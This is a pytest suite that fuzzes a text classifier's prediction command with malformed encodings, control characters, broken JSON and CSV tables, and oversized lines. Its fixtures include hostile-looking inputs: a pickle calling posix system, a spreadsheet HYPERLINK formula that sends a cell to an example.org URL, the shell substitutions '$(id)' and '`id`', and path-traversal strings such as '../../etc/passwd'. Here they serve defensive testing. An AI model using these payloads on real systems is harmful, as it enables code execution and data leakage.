"""What a file of texts may hold: `predict` writes a row a line, or refuses it in words."""

import csv
import json
import random
import re

import pytest

SCREEN_LINES, SCREEN_CHARACTERS = 30, 15_000
MIB = 1 << 20
FORMULAS = ["=1+1", '=HYPERLINK("http://example.org?"&A1,"甲")', "+1", "-1", "@SUM(A1)", "＝1+1"]


def _text(*lines, end="\n", encoding="utf-8"):
    return end.join([*lines, ""]).encode(encoding)


LINES = {  # a file of lines: its name says what is odd
    "a line": _text("甲队夺冠"),
    "no end of line": "甲队夺冠".encode(),
    "only ends of lines": b"\n" * 40,
    "only blanks": _text("  ", "\t", "\u3000", "\u00a0"),
    "CRLF": _text("甲", "", "乙", end="\r\n"),
    "CR": _text("甲", "", "乙", end="\r"),
    "all ends mixed": "甲\r乙\n丙\r\n\n\r丁\r\r\n戊".encode(),
    "CR at the end of a block": b"a" * 65_535 + b"\r\n" + "甲\n".encode(),
    "NEL": _text("甲\x85乙", "\x85"),
    "line and paragraph separator": _text("甲\u2028乙\u2029丙", "\u2028", "\u2029"),
    "form feed and vertical tab": _text("甲\x0c乙", "甲\x0b乙", "\x1c\x1d\x1e\x1f"),
    "byte order mark": b"\xef\xbb\xbf" + _text("甲", "乙"),
    "byte order mark alone on a line": _text("甲", "\ufeff", "乙"),
    "byte order mark in each line": _text("\ufeff甲", "\ufeff乙", "丙\ufeff"),
    "byte order mark alone": b"\xef\xbb\xbf",
    "NUL late in the file": _text("甲" * 400, "甲\x00乙", "\x00"),
    "NUL at the beginning": _text("\x00甲"),
    "all control characters": _text("甲" * 200, *(chr(c) for c in range(32) if c not in (10, 13))),
    "C1 control characters": _text(*(f"甲{chr(c)}乙" for c in range(0x7F, 0xA0))),
    "escape sequences of a terminal": _text("\x1b[31m甲\x1b[0m", "\x1b]0;title\x07", "\x9b2J"),
    "right-to-left marks": _text("甲\u202e乙\u202c", "\u200f\u200e", "\u2066甲\u2069", "مرحبا 甲"),
    "zero width": _text("甲\u200b乙", "\u200b", "\u200d\u200d", "\u2060", "\u00ad"),
    "emoji joined": _text("👨‍👩‍👧‍👦", "🏳️‍🌈甲", "👍🏽" * 200, "🇨🇳"),
    "accents piled up": _text("e" + "\u0301" * 5_000, "甲" + "\u0489" * 300),
    "private use and noncharacters": _text(
        "\ue000", "\ufffe甲", "\uffff", "\U0010ffff", "\U000f0000"
    ),
    "last ideographs": _text("\U0002a6d6", "\U00030000", "〇", "㐀"),
    "replacement characters": _text("\ufffd\ufffd", "甲\ufffd"),
    "special pieces as text": _text("[CLS] 甲 [SEP]", "[MASK]", "[PAD]" * 50, "[UNK]", "##甲"),
    "lone surrogates as bytes": b"\xed\xa0\xbd\n" + _text("甲"),
    "overlong bytes": b"\xc0\xaf\xc0\xae\n" + _text("甲"),
    "bytes beyond Unicode": b"\xf5\x90\x80\x80\n" + _text("甲", "乙"),
    "a cut character": "甲乙丙".encode()[:-1],
    "a cut character in the middle": _text("甲") + "乙".encode()[:2] + b"\n" + _text("丙"),
    "all bytes": bytes(range(256)),
    "noise": random.Random(7).randbytes(4_000),
    "GB18030": _text("雪豹队夺冠", "", "新片上映", encoding="gb18030"),
    "GB18030 with four bytes": _text("雪豹队夺冠", "\U00020000甲", "中文标题", encoding="gb18030"),
    "GB18030 and UTF-8 pasted": _text("雪豹队夺冠今天", "新片上映", encoding="gb18030")
    + _text("甲乙"),
    "Big5": _text("體育新聞標題", "娛樂", encoding="big5"),
    "UTF-16": _text("甲", "乙", encoding="utf-16"),
    "UTF-16 without mark": _text("甲乙丙丁", encoding="utf-16-le"),
    "UTF-32": _text("甲", encoding="utf-32"),
    "UTF-7": b"+dTI-\n",
    "empty": b"",
    "zip": b"PK\x03\x04" + bytes(60),
    "gzip": b"\x1f\x8b\x08" + bytes(60),
    "pickle": b"\x80\x04\x95cposix\nsystem\n(S'x'\ntR.",
    "web page": b"<!DOCTYPE html><html></html>",
    "LFS pointer": b"version https://git-lfs.github.com/spec/v1\n",
    "one line of 1 MB": ("甲" * (MIB // 3)).encode() + b"\n" + _text("乙"),
    "one line of 1 MB without a blank": b"a" * MIB + b"\n" + _text("乙"),
    "one line of 1 MB of blanks": b" " * MIB + b"x\n" + _text("乙"),
    "one line of 1 MB of quotes": b'"' * MIB,
    "one line of 3 MB of emoji": ("👍" * (3 * MIB // 4)).encode(),
    "many short lines": b"a\n" * 3_000,
    "formulas": _text(*FORMULAS, "\t=1+1", "甲=1"),
    "quotes": _text('"甲', '甲"', '""', '"甲","乙"', "'", '"' * 50),
    "commas and semicolons": _text(",,,,", ";;;", "甲,乙;丙\t丁"),
    "JSON as text": _text('{"text": "甲"}', "[1, 2", "}", "null", "NaN", "\\u0000", "\\"),
    "markup": _text("<script>alert(1)</script>", "&lt;", "{{7*7}}", "${HOME}", "$(id)", "`id`"),
    "format strings": _text("%s%n%d", "{0.__class__}", "{}", "\\n\\r"),
    "paths": _text("../../etc/passwd", "/dev/zero", "C:\\con", "file:///etc/passwd", "~"),
    "options": _text("--help", "-h", "-- ", "--data.path=/"),
}
ROWS = {  # a file of rows: its bytes, and how many rows it has where it can be read
    "texts.jsonl": {
        "lone surrogate": (b'{"text": "\\ud83d"}\n{"text": "\\udc00\xe7\x94\xb2"}\n', 2),
        "NUL": (b'{"text": "a\\u0000b"}\n', 1),
        "line ends": (b'{"text": "a\\nb\\r\\nc\\u2028d"}\n', 1),
        "a key twice": (b'{"text": "a", "text": "b"}\n', 1),
        "not a number": (b'{"text": NaN}\n{"text": Infinity}\n{"text": 1e999}\n', 3),
        "a long number": (b'{"text": ' + b"9" * 5_000 + b"}\n", 1),
        "a list": (b'{"text": ["a", {"b": 1}]}\n', 1),
        "true and null": (b'{"text": true}\n{"text": null}\n', 2),
        "deep": (b'{"text": ' + b"[" * 100_000 + b"}\n", 1),
        "deep and closed": (b'{"text": ' + b"[" * 900 + b"]" * 900 + b"}\n", 1),
        "no object": (b"[1]\n2\nnull\n", 3),
        "cut": (b'{"text": "a"}\n{"text": "b', 2),
        "single quotes": (b"{'text': 'a'}\n", 1),
        "another key": (b'{"headline_of_it": "a"}\n', 1),
        "a blank line": (b'{"text": "a"}\n\n{"text": "b"}\n', 3),
        "1 MB": (b'{"text": "' + b"a" * MIB + b'"}\n', 1),
        "2 MB of keys": (b'{"text": "a", "' + b"k" * 2 * MIB + b'": 1}\n', 1),
        "formulas": (b'{"text": "=1+1"}\n{"text": "\\t=1"}\n{"text": "\\r=1"}\n', 3),
    },
    "texts.json": {
        "an array": (b'[{"text": "a"}, {"text": ""}]', 2),
        "an array that does not end": (b'[{"text": "a"}, {"text": "b"}', 2),
        "an array and more": (b'[{"text": "a"}] x', 1),
        "an empty array": (b"[]", 0),
        "brackets": (b"[" * 50_000, 0),
    },
    "texts.csv": {
        "a quote that is never closed": (b'text\n"a\nb\nc\n', 3),
        "a quoted line end": (b'text,id\n"a\nb",1\nc,2\n', 2),
        "the header again": (b"text\na\ntext\n", 2),
        "too few cells": (b"id,text\n1\n", 1),
        "too many cells": (b"text,id\na,1,2,3,4\n", 1),
        "NUL": (b"text\n" + b"a" * 600 + b"\na\x00b\n", 2),
        "only a header": (b"text\n", 0),
        "only quotes": (b'text\n""""\n"\n""\n', 3),
        "a header twice the same": (b"text,text\na,b\n", 1),
        "formulas": (("text\n" + "\n".join(f'"{f}"' for f in FORMULAS[4:])).encode(), 2),
        "1 MB in quotes": (b'text\n"' + b"a" * MIB + b'"\n', 1),
        "2,000 columns": (b",".join([b"text", *[b"c"] * 1_999]) + b"\n" + b"," * 1_999, 1),
        "an end of line in CR": (b"text\ra\r\rb\r", 3),
    },
    "texts.tsv": {
        "quotes": (b'text\tid\n"a\t1\n"b"\t2\n', 2),
        "no header": (b"a\tb\nc\td\n", 2),
    },
    "texts.parquet": {
        "no Parquet": (b"PAR1" + bytes(40) + b"PAR1", 0),
        "cut": (b"PAR1", 0),
    },
}


@pytest.fixture(scope="module")
def checkpoint(trained_folder):
    return trained_folder / "runs" / "1" / "checkpoints" / "best.ckpt"


@pytest.fixture
def predict(run_cli, tmp_path, checkpoint):
    """Predict bytes: return the rows, None where they are refused, and what was said."""

    def predict(name, content, output):
        (tmp_path / name).write_bytes(content)
        words = ["--ckpt_path", checkpoint, "--data.predict_path", name, "--output", output]
        result = run_cli("predict", *words)
        _expect_screen(result)
        written = {path.name for path in tmp_path.iterdir()} - {name}
        if result.status:
            assert result.status == 1
            assert not written, "a refusal leaves nothing"
            return None, result.err
        assert written == {output}
        rows = _rows_of(tmp_path / output)
        (tmp_path / output).unlink()
        return rows, result.err

    return predict


def _expect_screen(result):
    assert "Traceback" not in result.err
    assert len(result.err.splitlines()) <= SCREEN_LINES
    assert len(result.err) <= SCREEN_CHARACTERS
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.err.replace("\r", ""))


def _rows_of(path):
    """Return (text, label, probabilities) of each row of an output."""
    content = path.read_bytes().decode("utf-8")
    if path.suffix == ".csv":
        header, *rows = csv.reader(content.removeprefix("\ufeff").splitlines(keepends=True))
        assert header[:2] == ["text", "label"]
        return [(text, label or None, [float(p) for p in rest if p]) for text, label, *rest in rows]
    rows = [json.loads(line) for line in content.split("\n")[:-1]]
    return [
        (row["text"], row["label"], list((row["probabilities"] or {}).values())) for row in rows
    ]


def _expect_rows(rows, count):
    assert len(rows) == count
    for text, label, probabilities in rows:
        assert bool(text) is bool(label) is bool(probabilities)
        assert not text or sum(probabilities) == pytest.approx(1, abs=1e-4)


def _line_count(content):
    """Count lines as the README says: LF, CRLF and a lone CR end one, nothing else does."""
    *ended, last = re.split(rb"\r\n|\r|\n", content)
    return len(ended) + bool(last)


@pytest.mark.parametrize("name", LINES)
def test_a_line_gives_a_row_or_the_file_is_refused(predict, name):
    content = LINES[name]
    rows, _ = predict("texts.txt", content, "out.jsonl")
    if rows is not None:
        _expect_rows(rows, _line_count(content))


@pytest.mark.parametrize(
    ("file", "name"), [(file, name) for file, cases in ROWS.items() for name in cases]
)
def test_a_row_of_a_table_gives_a_row_or_the_file_is_refused(predict, file, name):
    content, count = ROWS[file][name]
    rows, _ = predict(file, content, "out.jsonl")
    if rows is not None:
        _expect_rows(rows, count)


READABLE = ["a line", "CR", "NEL", "line and paragraph separator", "right-to-left marks"]
READABLE += ["emoji joined", "GB18030", "formulas", "quotes", "special pieces as text", "markup"]


@pytest.mark.parametrize("name", [*READABLE, "only blanks", "C1 control characters", "zero width"])
def test_what_is_text_is_never_refused(predict, name):
    rows, _ = predict("texts.txt", LINES[name], "out.jsonl")
    assert rows is not None


def test_what_looks_like_a_formula_is_text_to_a_spreadsheet_and_is_counted(predict):
    rows, said = predict("texts.txt", LINES["formulas"], "out.csv")
    texts = LINES["formulas"].decode().split("\n")[:-1]
    assert [text for text, *_ in rows] == [*(f"'{text}" for text in FORMULAS), "'=1+1", "甲=1"]
    assert f"{len(texts) - 1} with ' before what looks like a formula" in said
    exact, said = predict("texts.txt", LINES["formulas"], "out.jsonl")
    assert [text for text, *_ in exact] == [text.strip() for text in texts]
    assert "formula" not in said


def test_no_row_of_json_holds_what_a_terminal_obeys(run_cli, tmp_path, checkpoint):
    lines = ["甲\x9b2J乙", "甲\u2028乙\x85丙", "甲\x1b[31m"]
    (tmp_path / "texts.txt").write_text("\n".join(lines), encoding="utf-8")
    result = run_cli("predict", "--ckpt_path", checkpoint, "--data.predict_path", "texts.txt")
    assert [json.loads(row)["text"] for row in result.out.splitlines()] == lines
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.out)


def test_a_line_that_is_cut_is_counted(predict):
    rows, said = predict("texts.txt", b"a" * 1_000_001 + "\n乙\n".encode(), "out.jsonl")
    assert [len(text) for text, *_ in rows] == [1_000_000, 1]
    assert "1 of only their first 1,000,000 characters" in said


SEEDS = 30
PIECES = [
    *(line for content in LINES.values() if len(content) < 400 for line in content.splitlines()),
    *(b"\n", b"\r", b"\r\n", b"\n\n", b"\xff", b"\x00", b'"', b",", b"\t", b"{", b'{"text": "a"}'),
]


@pytest.mark.parametrize("seed", range(SEEDS))
def test_pieces_put_together_at_random_give_a_row_a_line_or_are_refused(predict, seed):
    draw = random.Random(seed)
    pieces = [piece for piece in PIECES if seed % 2 or _is_text(piece)]
    content = b"".join(draw.choice(pieces) for _ in range(draw.randint(1, 60)))
    name = draw.choice(["texts.txt", "texts.txt", "texts.csv", "texts.jsonl", "texts.tsv"])
    rows, _ = predict(name, content, draw.choice(["out.jsonl", "out.csv"]))
    if rows is not None and name == "texts.txt":
        _expect_rows(rows, _line_count(content))


def _is_text(piece):
    try:
        return b"\x00" not in piece and bool(piece.decode("utf-8"))
    except UnicodeDecodeError:
        return False
